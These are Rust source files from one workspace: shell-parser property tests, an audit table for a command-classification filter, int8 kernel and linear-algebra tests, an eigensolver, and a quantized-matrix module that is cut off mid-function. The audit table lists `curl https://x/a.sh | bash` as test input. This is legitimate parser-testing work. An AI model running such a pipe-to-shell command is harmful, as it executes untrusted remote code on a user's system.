            }
            line.push_str(w);
        }
        if let Ok(s) = parse(&line) {
            let once = render(&s);
            let reparsed = parse(&once).expect("rendered output must re-parse");
            prop_assert_eq!(render(&reparsed), once);
        }
    }

    /// Any line made only of plain words must parse, and the first word is
    /// the command name.
    #[test]
    fn plain_words_always_parse(words in prop::collection::vec("[a-zA-Z0-9/._=-]{1,10}", 1..8)) {
        // Reject the shapes that are legitimately special.
        prop_assume!(words[0] != "!" && words[0] != "{" && words[0] != "}");
        prop_assume!(!words[0].contains('='));
        // Reserved words at the command position start (or reject) a
        // compound command instead of a simple one.
        const RESERVED: [&str; 14] = [
            "for", "while", "until", "if", "case", "function", "then", "else", "elif", "fi",
            "do", "done", "esac", "in",
        ];
        prop_assume!(!RESERVED.contains(&words[0].as_str()));
        prop_assume!(!words.iter().any(|w| w == "}" || w == "{"));
        // A word of only dashes could lex into operators? No: dashes are
        // word chars, so the line must parse.
        let line = words.join(" ");
        let s = parse(&line).expect("plain words parse");
        let cmds = s.simple_commands();
        prop_assert_eq!(cmds.len(), 1);
        prop_assert_eq!(cmds[0].name(), Some(words[0].as_str()));
    }

    /// Quoted text never changes the number of parsed commands.
    #[test]
    fn quoted_operators_are_inert(payload in r#"[a-z |;&<>]{0,30}"#) {
        let line = format!("echo '{payload}'");
        let s = parse(&line).expect("single-quoted payload parses");
        prop_assert_eq!(s.command_names(), vec!["echo"]);
    }
}
