//! Table-driven audit of `validate::classify` after the full-grammar
//! refactor.
//!
//! The layered parser widened the accepted grammar (here-documents,
//! parameter-expansion modifiers, arithmetic, compound commands). This
//! table pins, line by line, what is now Valid, what stays Invalid —
//! including the paper's Figure 2 dangling-redirect example — and what
//! is Empty, so future grammar changes cannot silently flip the
//! validity filter's behavior.

use shell_parser::{classify, LineClass};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Expect {
    Valid,
    Invalid,
    Empty,
}

fn verdict(line: &str) -> Expect {
    match classify(line) {
        LineClass::Valid(_) => Expect::Valid,
        LineClass::Invalid(_) => Expect::Invalid,
        LineClass::Empty => Expect::Empty,
    }
}

#[test]
fn classify_audit_table() {
    use Expect::*;
    let table: &[(&str, Expect)] = &[
        // --- Plain commands: unchanged behavior from the old subset.
        ("ls -la /tmp", Valid),
        ("curl https://x/a.sh | bash", Valid),
        ("PATH=/usr/bin make -j4 && echo done &", Valid),
        ("(cd /x && ls) | wc -l", Valid),
        ("{ echo a; echo b; }", Valid),
        // --- Newly valid: here-documents.
        ("cat << EOF\nhello\nEOF", Valid),
        ("cat <<- EOF\n\thello\nEOF", Valid),
        ("cat << EOF", Valid), // body never arrived; operator line is fine
        ("python3 <<'PY'\nprint(1)\nPY", Valid),
        // --- Newly valid: parameter-expansion modifiers.
        ("echo ${v:-default}", Valid),
        ("echo ${path##*/}", Valid),
        ("echo ${s//a/b}", Valid),
        ("echo ${#name}", Valid),
        // --- Newly valid: arithmetic expansion.
        ("echo $((1+2))", Valid),
        ("x=$((7 * 6)) env", Valid),
        // --- Newly valid: compound commands.
        ("for f in a b; do cat $f; done", Valid),
        ("while true; do sleep 1; done", Valid),
        ("until ping -c1 h; do sleep 5; done", Valid),
        ("if test -f x; then cat x; fi", Valid),
        ("case $1 in a) run ;; *) usage ;; esac", Valid),
        ("f() { echo hi; }", Valid),
        ("function f { echo hi; }", Valid),
        // --- Still invalid: the paper's Figure 2 example and friends.
        ("/*/*/* -> /*/*/* ->", Invalid),
        ("echo 'unterminated", Invalid),
        ("| head", Invalid),
        ("ls > ", Invalid),
        ("foo &&", Invalid),
        ("(unclosed", Invalid),
        // --- Still invalid: malformed compound commands.
        ("if true; fi", Invalid),
        ("while true; do done", Invalid),
        ("done", Invalid),
        ("case x in a) echo x", Invalid),
        ("for ; do x; done", Invalid),
        // --- Empty: no signal for detection.
        ("", Empty),
        ("   \t ", Empty),
        ("# just a comment", Empty),
    ];
    for (line, want) in table {
        assert_eq!(
            verdict(line),
            *want,
            "classify({line:?}) disagreed with the audit table"
        );
    }
}
