//! Property tests: every i8 dot kernel is the same exact function.
//!
//! The integer kernels accumulate i8×i8 products through i16 widening
//! multiplies into i32 — exact, associative arithmetic — so the SWAR
//! and `core::arch` paths must return the *identical* i32 as the
//! scalar reference on every input, not merely a close one. These
//! properties sweep ragged widths (SIMD tails), extreme codes
//! (±127/−128 saturation), and the full prepared-query scoring path
//! through `QuantizedMatrix`.

use linalg::kernels::{self, I8Kernel};
use linalg::quant::{Quantization, QuantizedMatrix, SCAN_TILE_ROWS};
use linalg::Matrix;
use proptest::prelude::*;

/// Deterministic pseudo-random matrix (xorshift64*), values in ±2.
fn random_matrix(rows: usize, cols: usize, seed: u64) -> Matrix {
    let mut state = seed | 1;
    Matrix::from_fn(rows, cols, |_, _| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        let u = state.wrapping_mul(0x2545f4914f6cdd1d);
        ((u >> 40) as f32 / (1u64 << 24) as f32) * 4.0 - 2.0
    })
}

proptest! {
    /// SWAR and the runtime-dispatched `core::arch` kernel equal the
    /// scalar reference bit-for-bit on arbitrary codes, truncated to
    /// every ragged width (SIMD tail lengths included).
    #[test]
    fn all_i8_kernels_agree_exactly(
        len in 0usize..200,
        a_full in prop::collection::vec(-128i8..=127i8, 200),
        b_full in prop::collection::vec(-128i8..=127i8, 200),
    ) {
        let (a, b) = (&a_full[..len], &b_full[..len]);
        let reference = kernels::dot_i8_scalar(a, b);
        for kernel in [I8Kernel::Scalar, I8Kernel::Swar, I8Kernel::Arch] {
            prop_assert_eq!(
                kernels::dot_i8_with(kernel, a, b),
                reference);
        }
    }

    /// Saturated codes (the i16 product extremes, e.g. −128·−128)
    /// accumulate exactly on every kernel.
    #[test]
    fn extreme_codes_accumulate_exactly(
        len in 0usize..200,
        pattern in prop::collection::vec(
            prop::sample::select(vec![-128i8, -127, -1, 0, 1, 127]),
            1..32,
        ),
    ) {
        let a: Vec<i8> = (0..len).map(|i| pattern[i % pattern.len()]).collect();
        let b: Vec<i8> = a.iter().rev().copied().collect();
        let reference = kernels::dot_i8_scalar(&a, &b);
        prop_assert_eq!(kernels::dot_i8_with(I8Kernel::Swar, &a, &b), reference);
        prop_assert_eq!(kernels::dot_i8_with(I8Kernel::Arch, &a, &b), reference);
    }

    /// The prepared-query scoring path returns the same f32 for every
    /// kernel on every format — i8 because the integer accumulation
    /// is exact, f32/f16 because they never touch the i8 kernels.
    #[test]
    fn prepared_scoring_is_kernel_invariant(
        rows in 1usize..20,
        cols in 1usize..70,
        seed in 0u64..u64::MAX,
    ) {
        let data = random_matrix(rows, cols, seed);
        let query = random_matrix(1, cols, seed ^ 0x9e3779b97f4a7c15);
        for quant in [Quantization::F32, Quantization::F16, Quantization::I8] {
            let qm = QuantizedMatrix::encode(data.clone(), quant);
            let pq = qm.prepare_query(query.row(0));
            for r in 0..rows {
                let reference = qm.dot_row_prepared_with(I8Kernel::Scalar, r, &pq);
                for kernel in [I8Kernel::Swar, I8Kernel::Arch] {
                    prop_assert_eq!(
                        qm.dot_row_prepared_with(kernel, r, &pq).to_bits(),
                        reference.to_bits());
                }
            }
        }
    }

    /// The tiled scan equals per-row prepared scoring bit-for-bit at
    /// every tile offset — including tiles that straddle the end of
    /// the candidate store.
    #[test]
    fn dot_tile_matches_per_row_at_ragged_offsets(
        rows in 1usize..150,
        cols in 1usize..40,
        n_queries in 1usize..4,
        seed in 0u64..u64::MAX,
    ) {
        for quant in [Quantization::F32, Quantization::F16, Quantization::I8] {
            let qm = QuantizedMatrix::encode(random_matrix(rows, cols, seed), quant);
            let queries = random_matrix(n_queries, cols, seed ^ 0xdeadbeef);
            let prepared: Vec<_> =
                (0..n_queries).map(|q| qm.prepare_query(queries.row(q))).collect();
            let mut scratch = Vec::new();
            let mut row_start = 0;
            while row_start < rows {
                let nrows = SCAN_TILE_ROWS.min(rows - row_start);
                let mut out = vec![0.0f32; n_queries * nrows];
                qm.dot_tile(I8Kernel::Arch, row_start, nrows, &prepared, &mut scratch, &mut out);
                for (q, pq) in prepared.iter().enumerate() {
                    for i in 0..nrows {
                        let expected = qm.dot_row_prepared(row_start + i, pq);
                        prop_assert_eq!(
                            out[q * nrows + i].to_bits(),
                            expected.to_bits());
                    }
                }
                row_start += nrows;
            }
        }
    }
}
