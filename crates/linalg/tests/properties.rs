//! Property-based tests for the linear-algebra substrate.

use linalg::{eigh, thin_svd, Matrix, Pca};
use proptest::prelude::*;

fn small_matrix(rows: usize, cols: usize) -> impl Strategy<Value = Matrix> {
    prop::collection::vec(-5.0f32..5.0, rows * cols)
        .prop_map(move |data| Matrix::from_vec(rows, cols, data))
}

proptest! {
    /// (A·B)·C == A·(B·C) within float tolerance.
    #[test]
    fn matmul_is_associative(
        a in small_matrix(4, 3),
        b in small_matrix(3, 5),
        c in small_matrix(5, 2),
    ) {
        let left = a.matmul(&b).matmul(&c);
        let right = a.matmul(&b.matmul(&c));
        for (x, y) in left.as_slice().iter().zip(right.as_slice()) {
            prop_assert!((x - y).abs() < 1e-2, "{x} vs {y}");
        }
    }

    /// (A·B)ᵀ == Bᵀ·Aᵀ.
    #[test]
    fn transpose_reverses_products(a in small_matrix(4, 3), b in small_matrix(3, 4)) {
        let left = a.matmul(&b).transpose();
        let right = b.transpose().matmul(&a.transpose());
        for (x, y) in left.as_slice().iter().zip(right.as_slice()) {
            prop_assert!((x - y).abs() < 1e-3);
        }
    }

    /// Eigendecomposition of A + Aᵀ reconstructs it and the eigenvector
    /// matrix is orthonormal.
    #[test]
    fn eigh_reconstructs_symmetric(a in small_matrix(5, 5)) {
        let sym = &a + &a.transpose();
        let e = eigh(&sym, 100);
        let lambda = Matrix::from_fn(5, 5, |r, c| if r == c { e.values[r] } else { 0.0 });
        let rec = e.vectors.matmul(&lambda).matmul(&e.vectors.transpose());
        let err = (&rec - &sym).frobenius_norm();
        prop_assert!(err < 1e-2 * (1.0 + sym.frobenius_norm()), "err {err}");
        let gram = e.vectors.transpose().matmul(&e.vectors);
        let orth = (&gram - &Matrix::identity(5)).frobenius_norm();
        prop_assert!(orth < 1e-2, "orthonormality {orth}");
    }

    /// Thin SVD at full rank reconstructs the matrix.
    #[test]
    fn svd_full_rank_reconstructs(a in small_matrix(6, 4)) {
        let svd = thin_svd(&a, 4);
        let err = (&svd.reconstruct() - &a).frobenius_norm();
        prop_assert!(err < 1e-2 * (1.0 + a.frobenius_norm()), "err {err}");
    }

    /// Singular values are non-negative and descending.
    #[test]
    fn svd_sigma_sorted(a in small_matrix(6, 4)) {
        let svd = thin_svd(&a, 4);
        for w in svd.sigma.windows(2) {
            prop_assert!(w[0] >= w[1] - 1e-4);
        }
        prop_assert!(svd.sigma.iter().all(|&s| s >= 0.0));
    }

    /// PCA reconstruction errors are never negative, and keeping all
    /// components drives them to ~0 on the training data.
    #[test]
    fn pca_error_nonnegative_and_full_rank_exact(a in small_matrix(12, 4)) {
        let pca = Pca::fit(&a, 2);
        for r in 0..a.rows() {
            prop_assert!(pca.reconstruction_error(a.row(r)) >= 0.0);
        }
        let full = Pca::fit(&a, 4);
        for r in 0..a.rows() {
            let e = full.reconstruction_error(a.row(r));
            prop_assert!(e < 1e-2 * (1.0 + a.frobenius_norm()), "residual {e}");
        }
    }

    /// The retained-variance constructor keeps between 1 and q components
    /// and its explained ratios are in (0, 1].
    #[test]
    fn pca_variance_ratio_bounds(a in small_matrix(10, 5)) {
        let pca = Pca::fit_variance_ratio(&a, 0.9);
        prop_assert!(pca.n_components() >= 1 && pca.n_components() <= 5);
        for &r in pca.explained_variance_ratio() {
            prop_assert!((0.0..=1.0 + 1e-4).contains(&r));
        }
    }
}
