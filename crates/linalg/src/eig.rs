//! Symmetric eigendecomposition via the cyclic Jacobi method.
//!
//! Jacobi rotation is slow for very large matrices but simple, numerically
//! robust, and entirely adequate for the covariance matrices this
//! workspace decomposes (embedding dimensionality ≤ 768).

use crate::matrix::Matrix;

/// Result of [`eigh`]: `a ≈ V · diag(λ) · Vᵀ` with eigenvalues sorted in
/// descending order and eigenvectors as *columns* of `vectors`.
#[derive(Debug, Clone, PartialEq)]
pub struct Eigh {
    /// Eigenvalues, descending.
    pub values: Vec<f32>,
    /// Orthonormal eigenvectors; column `i` pairs with `values[i]`.
    pub vectors: Matrix,
}

/// Eigendecomposition of a symmetric matrix by cyclic Jacobi sweeps.
///
/// ```
/// use linalg::{eigh, Matrix};
/// let a = Matrix::from_rows(&[&[2.0, 1.0], &[1.0, 2.0]]);
/// let e = eigh(&a, 100);
/// assert!((e.values[0] - 3.0).abs() < 1e-4);
/// assert!((e.values[1] - 1.0).abs() < 1e-4);
/// ```
///
/// # Panics
///
/// Panics if `a` is not square.
pub fn eigh(a: &Matrix, max_sweeps: usize) -> Eigh {
    let n = a.rows();
    assert_eq!(n, a.cols(), "eigh needs a square matrix");
    let mut m = a.clone();
    let mut v = Matrix::identity(n);

    for _ in 0..max_sweeps {
        let mut off = 0.0f32;
        for p in 0..n {
            for q in (p + 1)..n {
                off += m[(p, q)] * m[(p, q)];
            }
        }
        if off.sqrt() < 1e-9 * (1.0 + m.frobenius_norm()) {
            break;
        }
        for p in 0..n {
            for q in (p + 1)..n {
                let apq = m[(p, q)];
                if apq.abs() < 1e-12 {
                    continue;
                }
                let app = m[(p, p)];
                let aqq = m[(q, q)];
                // Jacobi rotation angle: tan(2φ) = 2·a_pq / (a_pp − a_qq).
                let phi = 0.5 * (2.0 * apq).atan2(app - aqq);
                let (s, c) = phi.sin_cos();

                // Apply rotation R(p,q,φ) on both sides: m ← Rᵀ m R.
                for k in 0..n {
                    let mkp = m[(k, p)];
                    let mkq = m[(k, q)];
                    m[(k, p)] = c * mkp + s * mkq;
                    m[(k, q)] = -s * mkp + c * mkq;
                }
                for k in 0..n {
                    let mpk = m[(p, k)];
                    let mqk = m[(q, k)];
                    m[(p, k)] = c * mpk + s * mqk;
                    m[(q, k)] = -s * mpk + c * mqk;
                }
                for k in 0..n {
                    let vkp = v[(k, p)];
                    let vkq = v[(k, q)];
                    v[(k, p)] = c * vkp + s * vkq;
                    v[(k, q)] = -s * vkp + c * vkq;
                }
            }
        }
    }

    let mut pairs: Vec<(f32, usize)> = (0..n).map(|i| (m[(i, i)], i)).collect();
    pairs.sort_by(|a, b| b.0.partial_cmp(&a.0).unwrap_or(std::cmp::Ordering::Equal));

    let values: Vec<f32> = pairs.iter().map(|&(val, _)| val).collect();
    let vectors = Matrix::from_fn(n, n, |r, c| v[(r, pairs[c].1)]);
    Eigh { values, vectors }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn reconstruct(e: &Eigh) -> Matrix {
        let n = e.values.len();
        let lambda = Matrix::from_fn(n, n, |r, c| if r == c { e.values[r] } else { 0.0 });
        e.vectors.matmul(&lambda).matmul(&e.vectors.transpose())
    }

    #[test]
    fn two_by_two_known_values() {
        let a = Matrix::from_rows(&[&[2.0, 1.0], &[1.0, 2.0]]);
        let e = eigh(&a, 50);
        assert!((e.values[0] - 3.0).abs() < 1e-4);
        assert!((e.values[1] - 1.0).abs() < 1e-4);
    }

    #[test]
    fn diagonal_matrix_is_fixed_point() {
        let a = Matrix::from_rows(&[&[5.0, 0.0], &[0.0, -2.0]]);
        let e = eigh(&a, 50);
        assert!((e.values[0] - 5.0).abs() < 1e-5);
        assert!((e.values[1] + 2.0).abs() < 1e-5);
    }

    #[test]
    fn reconstruction_matches_input() {
        // Symmetric matrix from a random-ish generator.
        let b = Matrix::from_fn(8, 8, |r, c| (((r * 13 + c * 7) % 10) as f32 - 4.5) / 3.0);
        let a = &b + &b.transpose();
        let e = eigh(&a, 100);
        let rec = reconstruct(&e);
        let err = (&rec - &a).frobenius_norm() / a.frobenius_norm();
        assert!(err < 1e-3, "relative reconstruction error {err}");
    }

    #[test]
    fn eigenvectors_are_orthonormal() {
        let b = Matrix::from_fn(10, 10, |r, c| ((r * 3 + c * 11) % 7) as f32);
        let a = &b + &b.transpose();
        let e = eigh(&a, 100);
        let gram = e.vectors.transpose().matmul(&e.vectors);
        let err = (&gram - &Matrix::identity(10)).frobenius_norm();
        assert!(err < 1e-3, "orthonormality error {err}");
    }

    #[test]
    fn values_are_sorted_descending() {
        let b = Matrix::from_fn(6, 6, |r, c| ((r + 2 * c) % 5) as f32);
        let a = &b + &b.transpose();
        let e = eigh(&a, 100);
        for w in e.values.windows(2) {
            assert!(w[0] >= w[1] - 1e-5);
        }
    }

    #[test]
    fn trace_is_preserved() {
        let b = Matrix::from_fn(7, 7, |r, c| ((r * r + c) % 6) as f32 / 2.0);
        let a = &b + &b.transpose();
        let e = eigh(&a, 100);
        let trace: f32 = (0..7).map(|i| a[(i, i)]).sum();
        let sum: f32 = e.values.iter().sum();
        assert!((trace - sum).abs() < 1e-3);
    }

    #[test]
    #[should_panic(expected = "square")]
    fn non_square_panics() {
        let _ = eigh(&Matrix::zeros(2, 3), 10);
    }
}
