//! Quantized candidate storage for the vector-index layer.
//!
//! The dominant cost of an exact cosine scan is streaming the
//! candidate matrix through the dot products; cutting the bytes per
//! candidate row cuts the memory bandwidth the scan pays. This module
//! provides the storage axis the `index` crate threads through every
//! backend:
//!
//! * [`Quantization`] — the format knob (`F32 | F16 | I8`).
//! * [`f32_to_f16`] / [`f16_to_f32`] — IEEE 754 binary16 conversion
//!   with round-to-nearest-even (hand-rolled; the container has no
//!   `half` crate). Decoding goes through a lazily-built 64 Ki-entry
//!   lookup table so the scoring kernel pays one table read per
//!   element instead of a bit-twiddling decode.
//! * [`i8_encode_row`] — per-row symmetric int8: one `f32` scale per
//!   row (`max |x| / 127`), so a row's quantization never depends on
//!   its neighbours — a sharded index quantizing shard by shard is
//!   bit-identical to quantizing the whole matrix row by row.
//! * [`QuantizedMatrix`] — a row-major candidate matrix in any of the
//!   three formats with *dequant-free* scoring kernels:
//!   [`QuantizedMatrix::dot_row`] accumulates straight out of the
//!   compressed representation (f16 via the table; i8 as an
//!   **exact-integer** dot — the query is symmetrically quantized too,
//!   the codes multiply in i16-widening integer arithmetic via
//!   [`crate::kernels`], and `scale_row × scale_query` dequantizes the
//!   final integer once, see [`finish_i8_dot`]) without materializing
//!   an `f32` row.
//! * [`PreparedQuery`] / [`QuantizedMatrix::dot_tile`] — the scan hot
//!   path: a query is validated and (for i8) quantized **once per
//!   scan**, then candidate rows are scored in cache-sized tiles
//!   ([`SCAN_TILE_ROWS`]) with a whole block of queries per tile, so
//!   the f16 decode and the row stream are amortized across queries
//!   and the i8 inner loop runs the SIMD integer kernels.
//!
//! The `F32` variant wraps a plain [`Matrix`] and its kernels are the
//! exact historical ones — every f32-configured index stays
//! bit-identical to the pre-quantization code, which the index crate's
//! back-compat pins assert. Exact integer arithmetic is associative,
//! so the i8 scores are additionally bit-identical across *every*
//! kernel implementation (scalar, SWAR, SSE2/AVX2, NEON) on every
//! platform.

use crate::kernels::{self, I8Kernel};
use crate::matrix::{dot, Matrix};
use std::sync::OnceLock;

/// Candidate rows per scan tile. Sized so a decoded f16 tile
/// (`TILE × cols × 4` bytes — 16 KiB at the paper's 64-dim embedding)
/// stays L1-resident while a block of queries is scored against it,
/// amortizing the f16 table decode (and the i8 row-pointer walk)
/// across every query in the block instead of re-paying it per query.
pub const SCAN_TILE_ROWS: usize = 64;

/// Candidate storage format for a vector index.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default)]
pub enum Quantization {
    /// Full-precision rows — bit-identical to the historical scans.
    #[default]
    F32,
    /// IEEE binary16 rows: 2 bytes/element, ≤ 1 f16-ulp element error.
    F16,
    /// Per-row symmetric int8: 1 byte/element + one `f32` scale per
    /// row, ≤ `scale/2` element error.
    I8,
}

impl Quantization {
    /// Short stable name (`"f32"` / `"f16"` / `"i8"`), the CLI
    /// spelling of the `--quant` knob.
    pub fn name(self) -> &'static str {
        match self {
            Quantization::F32 => "f32",
            Quantization::F16 => "f16",
            Quantization::I8 => "i8",
        }
    }

    /// Bytes one stored element occupies (excluding per-row scales).
    pub fn bytes_per_element(self) -> usize {
        match self {
            Quantization::F32 => 4,
            Quantization::F16 => 2,
            Quantization::I8 => 1,
        }
    }
}

impl std::str::FromStr for Quantization {
    type Err = String;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s {
            "f32" => Ok(Quantization::F32),
            "f16" => Ok(Quantization::F16),
            "i8" => Ok(Quantization::I8),
            other => Err(format!("unknown quantization {other:?} (f32|f16|i8)")),
        }
    }
}

impl std::fmt::Display for Quantization {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.name())
    }
}

/// Converts an `f32` to IEEE 754 binary16 bits with
/// round-to-nearest-even (overflow saturates to ±∞, NaN maps to a
/// quiet NaN).
pub fn f32_to_f16(x: f32) -> u16 {
    let bits = x.to_bits();
    let sign = ((bits >> 16) & 0x8000) as u16;
    let exp = ((bits >> 23) & 0xFF) as i32;
    let mant = bits & 0x007F_FFFF;
    if exp == 0xFF {
        // Inf / NaN.
        return sign | if mant != 0 { 0x7E00 } else { 0x7C00 };
    }
    let unbiased = exp - 127;
    if unbiased >= 16 {
        // Too large for f16: saturate to infinity.
        return sign | 0x7C00;
    }
    if unbiased >= -14 {
        // Normal f16: keep the top 10 mantissa bits, RNE on the rest.
        let mant16 = mant >> 13;
        let round = mant & 0x1FFF;
        let mut h = (((unbiased + 15) as u32) << 10) | mant16;
        if round > 0x1000 || (round == 0x1000 && (mant16 & 1) == 1) {
            // A carry out of the mantissa correctly increments the
            // exponent (and saturates to +∞ at the top).
            h += 1;
        }
        return sign | h as u16;
    }
    if unbiased < -25 {
        // Below half the smallest subnormal: rounds to (signed) zero.
        return sign;
    }
    // Subnormal f16: value = full_mant · 2^(unbiased − 23); the
    // subnormal unit is 2^-24, so the stored mantissa is
    // full_mant >> (−1 − unbiased) with RNE on the dropped bits.
    let full_mant = mant | 0x0080_0000;
    let shift = (-1 - unbiased) as u32; // 14..=24
    let kept = full_mant >> shift;
    let dropped = full_mant & ((1u32 << shift) - 1);
    let half = 1u32 << (shift - 1);
    let mut h = kept;
    if dropped > half || (dropped == half && (kept & 1) == 1) {
        // May carry into the exponent field: 0x0400 is exactly the
        // smallest normal, which is the correct rounding.
        h += 1;
    }
    sign | h as u16
}

/// Converts IEEE 754 binary16 bits back to `f32` (exact — every f16
/// value is representable).
pub fn f16_to_f32(h: u16) -> f32 {
    let sign = ((h & 0x8000) as u32) << 16;
    let exp = ((h >> 10) & 0x1F) as u32;
    let mant = (h & 0x03FF) as u32;
    if exp == 0 {
        if mant == 0 {
            return f32::from_bits(sign);
        }
        // Subnormal: mant · 2^-24.
        let v = mant as f32 * 2f32.powi(-24);
        return if sign != 0 { -v } else { v };
    }
    if exp == 0x1F {
        return f32::from_bits(sign | 0x7F80_0000 | (mant << 13));
    }
    f32::from_bits(sign | ((exp + 112) << 23) | (mant << 13))
}

/// The f16 → f32 decode table the scoring kernels read (64 Ki entries,
/// 256 KiB, built once per process on first use).
fn f16_table() -> &'static [f32] {
    static TABLE: OnceLock<Vec<f32>> = OnceLock::new();
    TABLE.get_or_init(|| (0..=u16::MAX).map(f16_to_f32).collect())
}

/// Quantizes one row to per-row symmetric int8: returns the codes and
/// the scale such that `code[j] · scale ≈ row[j]` with element error
/// ≤ `scale / 2`. An all-zero (or all-non-finite-free zero) row gets
/// scale 0 and all-zero codes.
pub fn i8_encode_row(row: &[f32]) -> (Vec<i8>, f32) {
    let max_abs = row.iter().fold(0.0f32, |m, &x| m.max(x.abs()));
    if max_abs == 0.0 {
        return (vec![0; row.len()], 0.0);
    }
    let scale = max_abs / 127.0;
    let inv = 1.0 / scale as f64;
    let codes = row
        .iter()
        .map(|&x| ((x as f64 * inv).round() as i32).clamp(-127, 127) as i8)
        .collect();
    (codes, scale)
}

/// Dequantizes a finished exact-integer i8 dot product: the stored row
/// and the query were both symmetrically quantized, so
/// `Σ rᵢqᵢ ≈ (Σ codeᵣᵢ·codeqᵢ) · scaleᵣ · scaleq`. The scale product is
/// applied **once, to the final integer** — the single place the i8
/// score becomes a float, shared by the scalar reference
/// ([`QuantizedMatrix::dot_row`]), the prepared path and the blocked
/// scan, which is what makes every i8 kernel score-identical.
#[inline]
pub fn finish_i8_dot(acc: i32, row_scale: f32, query_scale: f32) -> f32 {
    acc as f32 * (row_scale * query_scale)
}

/// A row-major candidate matrix stored in one of the three
/// [`Quantization`] formats, with scoring kernels that read the
/// compressed representation directly.
///
/// The variant fields are public so the `index` crate's hand-rolled
/// persistence codec can frame them; invariants (`data.len() ==
/// rows · cols`, one i8 scale per row) are asserted by the
/// constructors and must be upheld by anyone building a value
/// literally.
#[derive(Debug, Clone, PartialEq)]
pub enum QuantizedMatrix {
    /// Full-precision rows (the historical storage, wrapped).
    F32(Matrix),
    /// binary16 rows.
    F16 {
        /// Row count.
        rows: usize,
        /// Columns per row.
        cols: usize,
        /// Row-major f16 bit patterns, `rows · cols` long.
        data: Vec<u16>,
    },
    /// Per-row symmetric int8 rows.
    I8 {
        /// Row count.
        rows: usize,
        /// Columns per row.
        cols: usize,
        /// Row-major codes, `rows · cols` long.
        data: Vec<i8>,
        /// One symmetric scale per row.
        scales: Vec<f32>,
    },
}

impl QuantizedMatrix {
    /// Encodes `data` into the chosen format (`F32` wraps it
    /// unchanged, no copy).
    pub fn encode(data: Matrix, quant: Quantization) -> Self {
        match quant {
            Quantization::F32 => QuantizedMatrix::F32(data),
            Quantization::F16 => QuantizedMatrix::F16 {
                rows: data.rows(),
                cols: data.cols(),
                data: data.as_slice().iter().map(|&x| f32_to_f16(x)).collect(),
            },
            Quantization::I8 => {
                let (rows, cols) = data.shape();
                let mut codes = Vec::with_capacity(rows * cols);
                let mut scales = Vec::with_capacity(rows);
                for r in 0..rows {
                    let (row_codes, scale) = i8_encode_row(data.row(r));
                    codes.extend_from_slice(&row_codes);
                    scales.push(scale);
                }
                QuantizedMatrix::I8 {
                    rows,
                    cols,
                    data: codes,
                    scales,
                }
            }
        }
    }

    /// An empty matrix of the given format and width.
    pub fn empty(quant: Quantization, cols: usize) -> Self {
        Self::encode(Matrix::zeros(0, cols), quant)
    }

    /// The storage format.
    pub fn quantization(&self) -> Quantization {
        match self {
            QuantizedMatrix::F32(_) => Quantization::F32,
            QuantizedMatrix::F16 { .. } => Quantization::F16,
            QuantizedMatrix::I8 { .. } => Quantization::I8,
        }
    }

    /// Row count.
    pub fn rows(&self) -> usize {
        match self {
            QuantizedMatrix::F32(m) => m.rows(),
            QuantizedMatrix::F16 { rows, .. } | QuantizedMatrix::I8 { rows, .. } => *rows,
        }
    }

    /// Columns per row.
    pub fn cols(&self) -> usize {
        match self {
            QuantizedMatrix::F32(m) => m.cols(),
            QuantizedMatrix::F16 { cols, .. } | QuantizedMatrix::I8 { cols, .. } => *cols,
        }
    }

    /// Bytes the candidate storage occupies (codes plus per-row
    /// scales) — the figure the quantization benches compare.
    pub fn candidate_bytes(&self) -> usize {
        let elems = self.rows() * self.cols();
        match self {
            QuantizedMatrix::F32(_) => elems * 4,
            QuantizedMatrix::F16 { .. } => elems * 2,
            QuantizedMatrix::I8 { scales, .. } => elems + scales.len() * 4,
        }
    }

    /// Appends one row, quantizing it into this matrix's format.
    ///
    /// # Panics
    ///
    /// Panics if `row.len() != self.cols()` on a non-empty matrix (an
    /// empty one adopts the row's width, as [`Matrix::push_row`] does).
    pub fn push_row(&mut self, row: &[f32]) {
        match self {
            QuantizedMatrix::F32(m) => m.push_row(row),
            QuantizedMatrix::F16 { rows, cols, data } => {
                if *rows == 0 && data.is_empty() {
                    *cols = row.len();
                }
                assert_eq!(row.len(), *cols, "push_row width mismatch");
                data.extend(row.iter().map(|&x| f32_to_f16(x)));
                *rows += 1;
            }
            QuantizedMatrix::I8 {
                rows,
                cols,
                data,
                scales,
            } => {
                if *rows == 0 && data.is_empty() {
                    *cols = row.len();
                }
                assert_eq!(row.len(), *cols, "push_row width mismatch");
                let (codes, scale) = i8_encode_row(row);
                data.extend_from_slice(&codes);
                scales.push(scale);
                *rows += 1;
            }
        }
    }

    /// Decodes row `r` to `f32` (exact for `F32`; the dequantized
    /// approximation otherwise). Used off the scoring hot path — graph
    /// construction anchors, not per-candidate scoring.
    pub fn decode_row(&self, r: usize) -> Vec<f32> {
        match self {
            QuantizedMatrix::F32(m) => m.row(r).to_vec(),
            QuantizedMatrix::F16 { cols, data, .. } => {
                let table = f16_table();
                data[r * cols..(r + 1) * cols]
                    .iter()
                    .map(|&h| table[h as usize])
                    .collect()
            }
            QuantizedMatrix::I8 {
                cols, data, scales, ..
            } => {
                let scale = scales[r];
                data[r * cols..(r + 1) * cols]
                    .iter()
                    .map(|&q| q as f32 * scale)
                    .collect()
            }
        }
    }

    /// Dot product of stored row `r` with an `f32` query, accumulated
    /// straight from the compressed representation (the dequant-free
    /// scoring kernel). Bit-identical to [`dot`] for `F32`.
    ///
    /// This is the *scalar reference* path: it computes exactly what
    /// [`QuantizedMatrix::dot_row_prepared`] computes (for `I8`, it
    /// quantizes the query per call — callers on a hot loop should
    /// prepare once instead).
    ///
    /// # Panics
    ///
    /// Panics if `query.len() != self.cols()` — validated here for
    /// **every** format, so the width contract no longer depends on
    /// which storage variant a config picked (historically `F32`
    /// panicked via [`dot`] while the quantized arms only
    /// debug-asserted).
    #[inline]
    pub fn dot_row(&self, r: usize, query: &[f32]) -> f32 {
        assert_eq!(
            query.len(),
            self.cols(),
            "dot_row width mismatch: query has {} dims, matrix has {}",
            query.len(),
            self.cols()
        );
        match self {
            QuantizedMatrix::F32(m) => dot(m.row(r), query),
            QuantizedMatrix::F16 { cols, data, .. } => {
                let table = f16_table();
                let row = &data[r * cols..(r + 1) * cols];
                let mut acc = 0.0f32;
                for (&h, &q) in row.iter().zip(query) {
